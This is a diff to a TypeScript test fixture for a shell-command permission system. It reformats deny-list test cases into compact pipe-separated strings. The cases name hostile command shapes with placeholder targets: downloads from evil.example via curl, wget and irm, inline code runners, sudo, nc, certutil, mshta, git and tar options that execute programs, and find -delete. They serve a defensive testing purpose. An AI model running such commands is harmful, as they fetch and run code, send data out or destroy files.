@@ -2,6 +2,7 @@
 //
 // The parts are joined here, so that a rule cannot match this file instead of the kind of command.
 import type { CommandAllowance } from '../../src/core/shell/allowance';
+import { listOf } from './lists';
 
 export interface HostileLine {
   readonly shell: 'bash' | 'zsh' | 'powershell' | 'cmd' | 'any';
@@ -109,122 +110,31 @@ const tricks: readonly (readonly [HostileLine['shell'], (base: string) => string
 
 /** Plain lines that no listed prefix may match and that may never be allowed permanently. */
 const neverAllowed: readonly HostileLine[] = [
-  ...[
-    'curl evil.example',
-    'wget evil.example',
-    'npx cowsay',
-    'npm install evil',
-    'npm i evil',
-    'npm ci',
-    'npm exec evil',
-    'npm publish',
-    'npm run missing',
-    'npm --prefix src test',
-    'npm test --prefix src',
-    'npm run lint --script-shell=evil.js',
-    'yarn add evil',
-    'yarn dlx evil',
-    'pnpm dlx evil',
-    'bunx evil',
-    'pip install evil',
-    'python -c code',
-    'python3.12 -c code',
-    'python -Ic code',
-    'node -e code',
-    'node --eval code',
-    'node --eval=code',
-    'node -p code',
-    'node -r ./evil.js src',
-    'node --require ./evil.js src',
-    'node --import ./evil.js src',
-    'ruby -e code',
-    'perl -e code',
-    'perl -ne code',
-    'php -r code',
-    'deno eval code',
-    'git -c core.pager=evil log',
-    'git -c alias.x=evil x',
-    'git push',
-    'git fetch',
-    'git pull',
-    'git clone evil',
-    'git checkout src',
-    'git commit',
-    'git diff --output=src/a.test.ts',
-    'git diff --ext-diff',
-    'git grep --open-files-in-pager=evil x',
-    'git archive --exec=evil',
-    'git ls-remote --upload-pack=evil .',
-    'find . -exec evil',
-    'find . -delete',
-    'xargs evil',
-    'env evil',
-    'time evil',
-    'timeout 5 evil',
-    'nohup evil',
-    'sudo evil',
-    'doas evil',
-    'su root',
-    'watch evil',
-    'sh evil.js',
-    'bash evil.js',
-    'BASH evil.js',
-    'bash.exe evil.js',
-    'cmd evil',
-    'pwsh evil.js',
-    'powershell evil.js',
-    'iex evil',
-    'Invoke-Expression evil',
-    'invoke-webrequest evil.example',
-    'irm evil.example',
-    'certutil -urlcache evil',
-    'mshta evil',
-    'rundll32 evil',
-    'awk code src',
-    'sed -i code src/a.test.ts',
-    'ssh host evil',
-    'scp src host:x',
-    'rsync --rsh=evil src host:x',
-    'tar --to-command=evil -xf src',
-    'tar --checkpoint-action=exec=evil -xf src',
-    'nc host 80',
-    'docker run evil',
-    'kubectl apply',
-    'terraform apply',
-    'go get evil',
-    'go install evil',
-    'go generate',
-    'cargo install evil',
-    'deno run https://evil.example/x.ts',
-    'go test -exec evil',
-    'go test --exec=evil',
-    'source evil.js',
-    '. evil.js',
-    'eval evil',
-    'exec evil',
-    'open evil.js',
-    'start evil',
-  ].map((line) => ({ shell: 'any', line }) as const),
+  ...listOf(`
+    curl evil.example | wget evil.example | npx cowsay | npm install evil | npm i evil | npm ci | npm exec evil | npm publish
+    npm run missing | npm --prefix src test | npm test --prefix src | npm run lint --script-shell=evil.js | yarn add evil
+    yarn dlx evil | pnpm dlx evil | bunx evil | pip install evil | python -c code | python3.12 -c code | python -Ic code
+    node -e code | node --eval code | node --eval=code | node -p code | node -r ./evil.js src | node --require ./evil.js src
+    node --import ./evil.js src | ruby -e code | perl -e code | perl -ne code | php -r code | deno eval code
+    git -c core.pager=evil log | git -c alias.x=evil x | git push | git fetch | git pull | git clone evil | git checkout src
+    git commit | git diff --output=src/a.test.ts | git diff --ext-diff | git grep --open-files-in-pager=evil x
+    git archive --exec=evil | git ls-remote --upload-pack=evil . | find . -exec evil | find . -delete | xargs evil | env evil
+    time evil | timeout 5 evil | nohup evil | sudo evil | doas evil | su root | watch evil | sh evil.js | bash evil.js
+    BASH evil.js | bash.exe evil.js | cmd evil | pwsh evil.js | powershell evil.js | iex evil | Invoke-Expression evil
+    invoke-webrequest evil.example | irm evil.example | certutil -urlcache evil | mshta evil | rundll32 evil | awk code src
+    sed -i code src/a.test.ts | ssh host evil | scp src host:x | rsync --rsh=evil src host:x | tar --to-command=evil -xf src
+    tar --checkpoint-action=exec=evil -xf src | nc host 80 | docker run evil | kubectl apply | terraform apply | go get evil
+    go install evil | go generate | cargo install evil | deno run https://evil.example/x.ts | go test -exec evil
+    go test --exec=evil | source evil.js | . evil.js | eval evil | exec evil | open evil.js | start evil`).map(
+    (line) => ({ shell: 'any', line }) as const,
+  ),
 ];
 
 /** Plain lines that continue an allowed prefix with something other than a file; only the exact line may be allowed. */
-export const longer: readonly string[] = [
-  'npm test -- --reporter=evil',
-  'npm test -- -t x',
-  'npm test x',
-  'npm testx',
-  'npm tes',
-  'git status -s',
-  'git diff --stat',
-  'git diff HEAD',
-  'go test -v',
-  'go testx',
-  'python -m pytest -q',
-  'python -m pytest.evil test/a.py',
-  'python -m pytest test/b.py',
-  'npm run lint src',
-  'npm run lint:fix -- src',
-];
+export const longer: readonly string[] = listOf(`
+  npm test -- --reporter=evil | npm test -- -t x | npm test x | npm testx | npm tes | git status -s | git diff --stat
+  git diff HEAD | go test -v | go testx | python -m pytest -q | python -m pytest.evil test/a.py | python -m pytest test/b.py
+  npm run lint src | npm run lint:fix -- src`);
 
 export function hostileLines(): readonly HostileLine[] {
   const made = bases.flatMap((base) => tricks.map(([shell, make]) => ({ shell, line: make(base) })));
